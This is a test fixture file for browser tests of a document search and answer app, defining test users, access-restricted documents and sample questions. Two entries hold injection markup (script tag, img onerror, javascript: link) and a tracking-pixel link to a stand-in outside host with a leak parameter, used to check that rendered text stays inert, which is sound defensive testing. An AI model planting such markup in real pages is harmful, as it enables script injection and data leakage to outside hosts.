/**
 * The people and documents of the browser tests' data-folder template (template.ts builds it
 * once per run; every test gets its own copy). Names and phrases the tests look for live here.
 */

export const USERS = {
  /** role admin, clearance 3 */
  admin: { name: "admin", password: "Admin-pass-2026!" },
  /** role viewer, group staff: may not read HR's payroll document */
  minji: { name: "minji", password: "Minji-pass-2026!" },
  /** role viewer, group hr */
  hana: { name: "hana", password: "Hana-pass-2026!" },
} as const;

/** Documents added beside the demo corpus (data/demo), with what a test looks for in each. */
export const DOCS = {
  /** Readable by group hr only: never shown to minji. */
  payroll: {
    source: "hr/급여-지급-규정.md",
    title: "급여 지급 규정",
    allow: ["group:hr"],
    phrase: "급여 이체일",
    text: "# 급여 지급 규정\n\n급여 이체일은 매월 21일이며, 휴일이면 그 전 영업일에 지급합니다. 상여 지급률은 기본급의 400퍼센트입니다.\n",
  },
  /** Readable by the admin only until a test grants it to minji. */
  aurora: {
    source: "projects/aurora-plan.md",
    title: "Project Aurora launch plan",
    allow: ["user:admin"],
    phrase: "Aurora",
    text: "# Project Aurora launch plan\n\nProject Aurora replaces the legacy billing gateway. The Aurora cutover is scheduled for the second week of March, after the freeze.\n",
  },
  /** Markup that must stay inert wherever the text is shown (document view, snippets, answers). */
  inert: {
    source: "notes/inert-markup.md",
    title: "Markup sample",
    allow: ["group:everyone"],
    phrase: "quarantine checklist",
    outsideHost: "outside.example",
    text: [
      "# Markup sample",
      "",
      "The quarantine checklist covers visitors and parcels.",
      "",
      "<script>window.__kbPwned = 'script';</script>",
      "",
      '<img src="x" onerror="window.__kbPwned = \'onerror\'">',
      "",
      "![tracking pixel](http://outside.example/pixel.png?leak=quarantine)",
      "",
      "[a link](javascript:window.__kbPwned='link')",
      "",
    ].join("\n"),
  },
  /** The same markup in a plain-text file: the extracted text keeps every character of it. */
  rawMarkup: {
    source: "notes/raw-markup.txt",
    title: "Raw markup sample",
    allow: ["group:everyone"],
    phrase: "visitor badge policy",
    outsideHost: "outside.example",
    text: [
      "The visitor badge policy applies to every floor.",
      "<script>window.__kbPwned = 'raw-script';</script>",
      '<img src="http://outside.example/raw.png" onerror="window.__kbPwned = \'raw-onerror\'">',
      "![tracking pixel](http://outside.example/raw-pixel.png)",
      "",
    ].join("\n"),
  },
  /** Three pages (form feeds); the fact a question asks for is on page 2 only. */
  handbook: {
    source: "handbook/onboarding-guide.txt",
    title: "Onboarding guide",
    allow: ["group:everyone"],
    phrase: "equipment deposit",
    quote: "The equipment deposit is 50,000 won and is refunded on your last working day.",
    text: [
      "Onboarding guide\n\nWelcome to Hanbit Tech. Your first week starts with an orientation session on Monday morning.",
      "Laptops and badges\n\nYou receive a laptop and a building badge on your first day. The equipment deposit is 50,000 won and is refunded on your last working day.",
      "Mentors\n\nEvery new employee is paired with a mentor from another team for the first three months.",
    ].join("\f"),
  },
  /** A two-page text PDF (make-pdf.ts): its pages are drawn by pdf.js in the browser. */
  printerPdf: {
    source: "manuals/printer-guide.pdf",
    title: "Printer guide",
    allow: ["group:everyone"],
    phrase: "toner cartridges",
    pages: [
      ["Printer guide", "The office printers are on every floor next to the lifts.", "Print jobs are kept for one hour, then deleted automatically."],
      ["Supplies", "Spare toner cartridges are kept in the supply room on the third floor.", "Report a paper jam to the help desk at extension 2000."],
    ],
  },
} as const;

export const KOREAN_QUESTION = "연차 휴가는 며칠인가요?";
/** The demo corpus's answer to KOREAN_QUESTION comes from this document. */
export const KOREAN_SOURCE_TITLE = /휴가/;
export const ENGLISH_QUESTION = "How do I connect to the VPN?";
